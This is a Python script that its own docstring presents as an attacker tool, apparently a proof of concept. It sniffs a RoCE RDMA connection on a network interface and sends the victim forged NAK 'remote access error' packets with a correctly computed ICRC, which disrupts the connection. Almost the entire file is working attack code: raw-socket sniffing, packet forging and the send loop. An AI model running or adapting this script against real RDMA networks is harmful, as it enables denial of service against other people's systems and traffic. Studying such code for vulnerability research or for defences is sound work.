#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Attacker on the peer's host: sniffs an RC connection on an interface and sends the victim NAKs
for its outstanding packets, from another UDP port.
usage: forge.py INTERFACE VICTIM PEER PORT SECONDS     prints how many were sent
SECONDS: counted from the first NAK; waits up to a minute for a connection."""

import socket
import struct
import sys
import time
import zlib

ROCE_PORT = 4791
ACKNOWLEDGE = 0x11
NAK_REMOTE_ACCESS = 0x62


def packet(victim, peer, port, headers):
    """Returns a UDP payload: `headers` and the ICRC over the IP and UDP headers that the kernel
    will write."""
    length = 8 + len(headers) + 4
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, 20 + length, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(peer), socket.inet_aton(victim))
    udp = struct.pack(">HHHH", port, ROCE_PORT, length, 0xFFFF)
    crc = zlib.crc32(b"\xff" * 8 + ip + udp + headers[:4] + b"\xff" + headers[5:])
    return headers + struct.pack("<I", crc)


def bound(peer, port):
    """Returns a socket with which the kernel writes the IP and UDP headers that packet()
    assumes."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, 10, 2)  # IP_MTU_DISCOVER, IP_PMTUDISC_DO: DF and identification 0
    sender.bind((peer, port))
    return sender


def nak(victim, peer, port, qpn, psn):
    bth = struct.pack(">BBHII", ACKNOWLEDGE, 0x40, 0xFFFF, qpn, psn)
    return packet(victim, peer, port, bth + struct.pack(">I", NAK_REMOTE_ACCESS << 24))


def main():
    interface, victim, peer, port, seconds = sys.argv[1:4] + [int(sys.argv[4]), float(sys.argv[5])]
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: outgoing frames, too
    sniffer.bind((interface, 3))
    sniffer.settimeout(0.2)
    sender = bound(peer, port)
    qpn, sent = None, 0
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            frame = sniffer.recv(128)
        except TimeoutError:
            continue
        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[36:38] != struct.pack(">H", ROCE_PORT):
            continue
        source, opcode = socket.inet_ntoa(frame[26:30]), frame[42]
        bth_qpn, psn = (value & 0xFFFFFF for value in struct.unpack(">II", frame[46:54]))
        if source == peer and opcode == ACKNOWLEDGE and frame[34:36] == struct.pack(">H", ROCE_PORT):
            qpn = bth_qpn
        elif source == victim and opcode != ACKNOWLEDGE and qpn is not None:
            sender.sendto(nak(victim, peer, port, qpn, psn), (victim, ROCE_PORT))
            if sent == 0:
                end = time.monotonic() + seconds
            sent += 1
    print(f"{sent} NAKs sent")
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
